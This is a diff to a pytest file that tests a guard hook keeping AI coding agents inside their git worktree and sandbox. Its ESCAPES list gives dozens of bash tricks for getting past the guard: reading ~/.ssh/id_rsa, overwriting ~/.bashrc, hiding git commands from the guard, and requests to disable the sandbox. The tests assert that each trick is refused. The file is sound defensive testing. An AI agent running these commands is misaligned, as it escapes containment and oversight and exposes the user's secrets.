@@ -2,6 +2,7 @@
 
 import json
 import os
+import socket
 import subprocess
 import sys
 
@@ -259,6 +260,21 @@ def test_a_cwd_outside_the_worktree_makes_git_refused(layout):
     assert v.decision == "deny"
 
 
+def hook_argv(folder, server, repo, worktree):
+    """The guard hook's command line as guard_command makes it, with orchestra looked for in `folder`."""
+    return [sys.executable, "-I", "-S", "-c", orchestra.GUARD_LAUNCH, str(folder), str(server),
+            "--repo", str(repo), "--agent", "mine", "--worktree", str(worktree),
+            "--branch", "orchestra/mine"]  # fmt: skip
+
+
+def run_hook(argv, tool, home=None, **tool_input):
+    request = {"tool_name": tool, "tool_input": tool_input, "cwd": tool_input.get("cwd", "")}
+    mine = ("ORCHESTRA_CONFIG", "XDG_CONFIG_HOME")  # your config then follows HOME
+    env = {**{k: v for k, v in os.environ.items() if k not in mine}, "HOME": str(home)}
+    env = env if home else None
+    return subprocess.run(argv, input=json.dumps(request), capture_output=True, text=True, env=env)
+
+
 def test_hook_prints_claude_codes_answer_and_logs_the_refusal(layout):
     _b, repo, worktree, home = layout
     (repo / ".orchestra" / "logs").mkdir()
@@ -267,9 +283,7 @@ def test_hook_prints_claude_codes_answer_and_logs_the_refusal(layout):
         "tool_input": {"file_path": str(repo / "x")},
         "cwd": str(worktree),
     }
-    argv = [sys.executable, "-I", "-S", "-c", orchestra.GUARD_LAUNCH, str(ROOT),
-            "--repo", str(repo), "--agent", "mine", "--worktree", str(worktree),
-            "--branch", "orchestra/mine"]  # fmt: skip
+    argv = hook_argv(ROOT, repo / ".orchestra" / "no-server.sock", repo, worktree)
     done = subprocess.run(argv, input=json.dumps(request), capture_output=True, text=True,
                           env={**os.environ, "HOME": str(home)})  # fmt: skip
     answer = json.loads(done.stdout)["hookSpecificOutput"]
@@ -280,3 +294,216 @@ def test_hook_prints_claude_codes_answer_and_logs_the_refusal(layout):
     request["tool_input"] = {"file_path": str(worktree / "x")}
     done = subprocess.run(argv, input=json.dumps(request), capture_output=True, text=True)
     assert done.returncode == 0 and done.stdout == ""  # no objection: Claude Code decides
+
+
+def test_the_supervisors_guard_server_answers_as_the_hook_would(layout, tmp_path):
+    """With a GuardServer listening, the hook never loads orchestra: a folder without it still
+    gets the same verdicts. A call that needs a person, or another repository's, it judges itself.
+    """
+    _b, repo, worktree, home = layout
+    (repo / ".orchestra" / "logs").mkdir(exist_ok=True)
+    server = orchestra.GuardServer(repo).start()
+    try:
+        no_orchestra = tmp_path / "empty"
+        argv = hook_argv(no_orchestra, orchestra.guard_socket(repo), repo, worktree)
+        refused = run_hook(argv, "Write", file_path=str(repo / "y"))
+        answer = json.loads(refused.stdout)["hookSpecificOutput"]
+        assert answer["permissionDecision"] == "deny", refused.stderr
+        assert "blocked by containment: Write writes" in answer["permissionDecisionReason"]
+        log = (repo / ".orchestra" / "logs" / "mine.jsonl").read_text()
+        assert '"tool": "Write(' in log.splitlines()[-1]
+        allowed = run_hook(argv, "Write", file_path=str(worktree / "y"))
+        assert (allowed.returncode, allowed.stdout) == (0, "")
+        asks = run_hook(argv, "Read", home, file_path=str(home / ".ssh" / "id_rsa"))
+        assert "No module named 'orchestra'" in asks.stderr  # the hook had to judge it itself
+        config = home / ".config" / "claude-orchestra" / "config.json"  # your config, by your HOME
+        refused = run_hook(argv, "Read", home, file_path=str(config))
+        assert '"permissionDecision": "deny"' in refused.stdout, refused.stderr
+        other = hook_argv(no_orchestra, orchestra.guard_socket(repo), tmp_path, worktree)
+        assert "No module named 'orchestra'" in run_hook(other, "Read", file_path="x").stderr
+        assert orchestra.GuardServer(repo).start().listener is None  # one at a time
+    finally:
+        server.stop()
+    assert not orchestra.guard_socket(repo).exists()
+    assert run_hook(argv, "Write", file_path=str(worktree / "y")).returncode == 1  # no server
+
+
+def test_a_guard_server_takes_over_a_socket_a_dead_one_left(layout):
+    _b, repo, _worktree, _home = layout
+    with socket.socket(socket.AF_UNIX) as dead:  # a server killed with -9 leaves its file
+        dead.bind(str(orchestra.guard_socket(repo)))
+    second = orchestra.GuardServer(repo).start()
+    try:
+        assert second.listener is not None
+    finally:
+        second.stop()
+
+
+def test_init_says_what_is_missing_when_bash_is_allowed_with_no_sandbox(repo, cli):
+    assert cli("config", "set", "sandbox", "off").code == 0
+    init = cli("init")
+    assert "  sandbox: off (sandbox is off): Bash is checked by the guard alone" in init.out
+    assert "missing:" not in init.out
+    assert cli("config", "set", "bypass_permissions", '["Bash", "Edit(./**)"]').code == 0
+    init = cli("init")
+    assert "  missing: Bash is allowed outright with no sandbox, so a script an agent" in init.out
+
+
+# Escapes a hostile tester found in the first guard: none may be allowed without the sandbox.
+# Each stands for a class: how bash reads a word, an operator, a here-document, a program.
+ESCAPES = [
+    # git writing where --output (in either form) or -o says
+    "git log -1 --format=tformat:x --output ~/.bashrc",
+    "git log -1 --format=tformat:x --output=$HOME/.bashrc",
+    "git diff --output ../../README.md HEAD",
+    "git format-patch -o ../.. HEAD~1",
+    "git show --output ../../.gi?/config HEAD",
+    # parameter expansion the guard would misread
+    "echo x > ${PWD/.worktrees*/.orch}estra/config.json",
+    "cat ${PWD/task-mine/task-theirs}/README.md",
+    "cat ${HOME%/}/.ssh/id_rsa",
+    "F=../../README.md; echo pwned | tee $F",
+    "F=~/.ssh/id_rsa; cat $F",
+    # redirection operators shlex glues together
+    "echo pwned >| ../../README.md",
+    "(echo pwned)>../../README.md",
+    "true;>../../README.md",
+    "echo x|>../../README.md",
+    # ~+ and ~user
+    "git -C ~+/.. checkout -- :/README.md",
+    "cd ~+/.. && echo pwned > README.md",
+    "echo pwned > ~root/pwned",
+    # brace expansion
+    "echo x | tee {$HOME/.config/claude-orch''estra/config.json,./x}",
+    "cp evil.sh {$HOME/.bashrc,}",
+    "cat ../../.{orchestra,x}/web.json",
+    # git hidden from the guard
+    "$'git' branch -D main",
+    "g=git; $g branch -D main",
+    "sh -ec 'git branch -D main'",
+    "bash <<< 'git branch -D main'",
+    "echo 'git branch -D main' | sh",
+    "find . -maxdepth 0 -exec sh -c 'git branch -D main' \\;",
+    "gi\\\nt branch -D main",
+    "env G''IT_DIR=../../.g''it G''IT_WORK_TREE=../.. git checkout -- :/README.md",
+    "env -S'git branch -D main'",
+    # git subcommands that write files
+    "git merge-file ../../README.md README.md evil.txt",
+    "git interpret-trailers --in-place --trailer a=b ../../README.md",
+    "git apply --unsafe-paths evil.patch",
+    "git read-tree --index-output ../../x HEAD",
+    "git index-pack -o ../../x p.pack",
+    "git pack-objects ../../x",
+    # leaving the agent's branch
+    "git checkout main --",
+    "git checkout --ignore-other-worktrees main --",
+    "git switch -- main",
+    "git checkout -",
+    "git switch -",
+    "git rebase main -- orchestra/theirs",
+    "git rebase --root main",
+    "git bisect reset main",
+    "git config edit",
+    "git config set core.hooksPath /tmp/h",
+    # reads through tricks
+    "cat $(echo ../../.orch)estra/web.json",
+    "CDPATH=$PWD/../.. cd .orch''estra && cat web.json",
+    "cd && cat .ssh/id_rsa",
+    "cd && echo pwned > .pwned",
+    # writers the guard did not know
+    "sed -Ei s/hi/pwned/ ../../README.md",
+    "sed --in-place s/hi/pwned/ ../../README.md",
+    "perl -pi -e s/hi/pwned/ ../../README.md",
+    "sed -n 'w ../../README.md' README.md",
+    "sort -o ../../README.md evil",
+    "cp -t../.. evil",
+    "mv ../../README.md .",
+    "cp -l ../../.gi?/config c",
+    "link ~/.bashrc b",
+    "cp -s ../../README.md r",
+    "tar -xPf /tmp/e.tar",
+    "tar -xf e.tar -C ~",
+    "curl -o ~/.bashrc http://x",
+    # git's behaviour changed through the environment
+    "HOME=/tmp/x git status",
+    "XDG_CONFIG_HOME=/tmp/x git commit -m x",
+    "GIT_TRACE=../../README.md git status",
+    "PATH=.:/usr/bin git commit -m x",
+    "git rebase -x'touch /tmp/p' HEAD~1",
+    "git merge -s evil HEAD",
+    "git difftool -y -x ./x.sh HEAD",
+    # here-documents that run code
+    "cat <<EOF > notes.md\n$(git branch -D main)\nEOF",
+]
+
+
+@pytest.mark.parametrize("command", ESCAPES)
+def test_escapes_found_by_a_hostile_tester_are_not_allowed(layout, command):
+    _b, repo, _worktree, home = layout
+    command = command.replace("{repo}", str(repo)).replace("{home}", str(home))
+    v = verdict(layout, "Bash", command=command)
+    assert v.decision in ("ask", "deny"), v
+
+
+SANDBOXED_ESCAPES = [e for e in ESCAPES if not e.startswith(("F=", "cat $(echo"))]
+
+
+@pytest.mark.parametrize("command", SANDBOXED_ESCAPES)
+def test_with_the_sandbox_the_guard_still_refuses_what_the_sandbox_lets_through(layout, command):
+    """In the sandbox, only a hidden word's value is left to the sandbox's walls (writes only in
+    the worktree, no reads of orchestra's files or your secrets): every other escape still asks."""
+    b = layout[0]._replace(sandboxed=True)
+    v = orchestra.guard("Bash", {"command": command}, b, b.worktree)
+    assert v.decision in ("ask", "deny"), v
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git commit -m \"$(cat <<'EOF'\nFix the parser\n\nIt's done.\n\nCo-Authored-By: Claude <noreply@anthropic.com>\nEOF\n)\"",
+        "git commit -F - <<'EOF'\nDon't crash\nEOF",
+        "cat > notes.md <<'EOF'\nit's fine; then git push origin x.\nEOF",
+        "git branch -av",
+        "for f in src/*.py; do echo $f; done",
+        "git add -A && git commit -qm 'work' && git log --oneline -1",
+        "python3 -m pytest -q tests/ 2>&1 | tail -20",
+        "ls -la && cat README.md | head -5",
+        "mkdir -p out && sort data.txt -o out/sorted.txt",
+        "sed -i 's/old/new/g' src/a.py",
+        "find . -name '*.pyc' -delete",
+        "git stash list && git status --short",
+    ],
+)
+def test_ordinary_commands_an_agent_writes_pass(layout, command):
+    _b, _repo, worktree, _home = layout
+    (worktree / "data.txt").write_text("b\na\n")
+    v = verdict(layout, "Bash", command=command)
+    assert v.decision == "allow", v
+
+
+def test_a_call_that_asks_to_leave_the_sandbox_is_judged_as_if_unsandboxed(layout):
+    b = layout[0]._replace(sandboxed=True)
+    command = {"command": "F=notes.txt; wc -l $F"}
+    assert orchestra.guard("Bash", command, b, b.worktree).decision == "allow"
+    command["dangerouslyDisableSandbox"] = True
+    assert orchestra.guard("Bash", command, b, b.worktree).decision == "ask"
+    assert orchestra.guard("Bash", {"command": ["git", "branch", "-D"]}, b).decision == "deny"
+
+
+@pytest.mark.parametrize(
+    "tool, tool_input",
+    [
+        ("mcp__fs__move_file", {"source": "a.txt", "destination": "{home}/.bashrc"}),
+        ("mcp__fs__read_multiple_files", {"paths": ["{repo}/.orchestra/web.json"]}),
+        ("mcp__x__y", {"args": {"path": "{repo}/README.md"}}),
+        ("mcp__shell__run", {"command": "echo x > ../../README.md"}),
+        ("Glob", {"pattern": "../../.orch*/*"}),
+        ("Glob", {"pattern": "../../.worktree?/**"}),
+        ("Write", {"file_path": "~/.bashrc", "content": "x"}),
+    ],
+)
+def test_other_tools_are_judged_by_every_path_and_command_they_carry(layout, tool, tool_input):
+    _b, repo, _worktree, home = layout
+    text = json.dumps(tool_input).replace("{repo}", str(repo)).replace("{home}", str(home))
+    v = verdict(layout, tool, **json.loads(text))
+    assert v.decision in ("ask", "deny"), v
